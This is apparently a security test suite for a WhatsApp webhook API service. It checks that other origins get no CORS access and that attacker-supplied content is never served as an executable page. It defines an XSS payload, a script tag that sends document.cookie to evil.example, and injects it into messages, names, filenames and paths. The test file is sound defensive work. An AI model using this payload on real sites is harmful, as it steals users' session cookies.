// Attacks through the browser of somebody who may: other origins, and what strangers wrote as a page of ours.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import type { NumberSetup } from '../../../simulator/meta/index.ts'
import type { Receiver } from '../../../simulator/receiver/index.ts'
import { messagesBody, text } from '../callback.ts'
import { until } from '../conditions.ts'
import { as, NOTHING, requestsAbout } from '../keys/walk.ts'
import { type Stage, settingsOf, startStage } from '../stage.ts'
import { knock, leave, type Told } from './knock.ts'

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const ZOE = '15550001111'

let stage: Stage
let number: NumberSetup
let receiver: Receiver
const ends: (() => Promise<void>)[] = []
before(async () => {
  stage = await startStage({ after: (run) => void ends.push(run) })
  number = await stage.addAccount('shop')
  const account = { id: 'shop', type: 'business-api', business_api: settingsOf(number) } as const
  await stage.api.updateAccount({ ...account, media: { download: true } })
  receiver = await stage.addHook(
    'crm',
    { answer: () => ({ status: 500, body: SCRIPT }) },
    { events: ['message.received'] },
  )
})
after(async () => {
  leave()
  for (const end of ends) await end()
})

function assertClosed({ headers }: Told, what: string): void {
  const open = Object.keys(headers).filter((name) => name.startsWith('access-control-') || name === 'set-cookie')
  assert.deepEqual(open, [], what)
}

/** No browser runs it as a page: it is no page, and no browser is to guess. */
function assertNoPage(told: Told, what: string): void {
  assert.match(told.headers['content-type'] ?? '', /^(application\/(problem\+)?json|text\/plain)/, what)
  assert.equal(told.headers['x-content-type-options'], 'nosniff', what)
}

describe('another origin', () => {
  it('is let in nowhere: no preflight is answered with a yes, no answer is for it to read, and no cookie is set', async () => {
    const others = [
      '/health',
      '/ready',
      '/metrics',
      '/openapi.json',
      '/docs',
      '/media/x',
      '/webhooks/whatsapp/shop',
      '/nothing',
    ]
    const routes = [...requestsAbout(NOTHING), ...others.map((path) => ({ path, method: 'GET', operationId: path }))]
    for (const { path, method, operationId } of routes) {
      for (const origin of ['https://evil.example', 'null', 'http://127.0.0.1:1', stage.url]) {
        const asked = { 'access-control-request-method': method, 'access-control-request-headers': 'x-api-key' }
        const preflight = await knock(stage.url, { method: 'OPTIONS', path, headers: { origin, ...asked } })
        assert.ok(preflight.status >= 400, `${operationId}: ${preflight.status}`)
        assertClosed(preflight, operationId)
        assertClosed(await knock(stage.url, { method, path, headers: { origin } }), operationId)
      }
      assertClosed(await knock(stage.url, { method, path, headers: { origin: 'null', ...as(stage.key) } }), operationId)
    }
  })

  it('cannot call by a form or an image, for no browser sends a key by itself', async () => {
    const forms = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']
    for (const { path, method, body, operationId } of requestsAbout(NOTHING)) {
      const more = { origin: 'https://evil.example', cookie: `key=${stage.key}`, 'sec-fetch-site': 'cross-site' }
      for (const type of body === undefined ? [undefined] : forms) {
        const headers = { ...more, ...(type && { 'content-type': type }) }
        assert.equal((await knock(stage.url, { method, path, body, headers })).status, 401, operationId)
      }
    }
  })
})

describe('what strangers wrote', () => {
  it('comes back as data and never as a page: names, messages, files, errors of hooks, ids', async () => {
    const body = messagesBody(number, [text('wamid.x', SCRIPT, ZOE)], ZOE).replace('"Zoe"', JSON.stringify(SCRIPT))
    assert.equal(await stage.callback(number, body), 200)
    await receiver.next(({ body: told }) => told.includes('wamid.x'))
    const failed = async () => (await stage.api.listDeliveries({ state: 'retry' })).deliveries.length > 0
    await until(failed, 'the hook has failed')
    const [delivery] = (await stage.api.listDeliveries({ state: 'retry' })).deliveries
    const odd = encodeURIComponent(SCRIPT)
    const paths = [
      ...['/api/cache', '/api/deliveries', `/api/deliveries/${delivery?.id}`, '/api/audit', '/metrics', '/api/hooks'],
      ...[
        `/api/hooks/${odd}`,
        `/api/messages/${odd}`,
        `/api/cache?event_type=${odd}`,
        `/api/cache?${odd}=1`,
        `/api/${odd}`,
      ],
      ...[
        `/${odd}`,
        `/media/${odd}`,
        `/webhooks/whatsapp/${odd}`,
        `/webhooks/whatsapp/shop?hub.challenge=${odd}`,
        '/%zz',
      ],
    ]
    for (const path of paths) {
      for (const accept of ['text/html', '*/*', 'application/json']) {
        assertNoPage(await knock(stage.url, { path, headers: { ...as(stage.key), accept } }), path)
      }
    }
    const test = await knock(stage.url, { method: 'POST', path: '/api/hooks/crm/test', headers: as(stage.key) })
    assertNoPage(test, 'the answer of a hook')
    assert.ok(JSON.parse(test.text).answer.includes('<script>'), 'it is told as it is, as data')
  })

  it('is a file that no browser opens here, whatever it says that it is', async () => {
    const files = await stage.addHook('files', {}, { events: ['message.received', 'media.ready'] })
    const types = [
      'text/html',
      'image/svg+xml',
      'application/xhtml+xml',
      'text/xml',
      'application/javascript',
      'text/html; charset=utf-7',
    ]
    for (const mimeType of types) {
      const filename = `${mimeType.replace('/', '-')}"><script>.html`
      stage.meta
        .customer(ZOE)
        .sendsMedia('document', { bytes: Buffer.from(SCRIPT), mimeType, filename }, number.phoneNumberId)
    }
    const links = () => new Set(files.received.map(({ body }) => String(JSON.parse(body).data.media?.url ?? '')))
    const isTold = () => [...links()].filter((link) => link !== '').length >= types.length
    await until(isTold, 'all files are told')
    for (const link of links()) {
      if (link === '') continue
      const { pathname, search } = new URL(link)
      const { status, headers } = await knock(stage.url, { path: pathname + search })
      assert.equal(status, 200)
      assert.equal(headers['content-type'], 'application/octet-stream')
      assert.match(String(headers['content-disposition']), /^attachment; /)
      assert.match(String(headers['content-security-policy']), /sandbox/)
      assert.equal(headers['x-content-type-options'], 'nosniff')
    }
  })

  it('runs nowhere on the reference page, which no other page may frame', async () => {
    const { headers } = await knock(stage.url, { path: '/docs' })
    const policy = String(headers['content-security-policy'])
    assert.match(policy, /default-src 'self'|default-src 'none'/)
    assert.match(policy, /frame-ancestors 'none'/)
    assert.doesNotMatch(policy, /script-src[^;]*('unsafe-inline'|'unsafe-eval'|\*|https?:)/)
  })
})
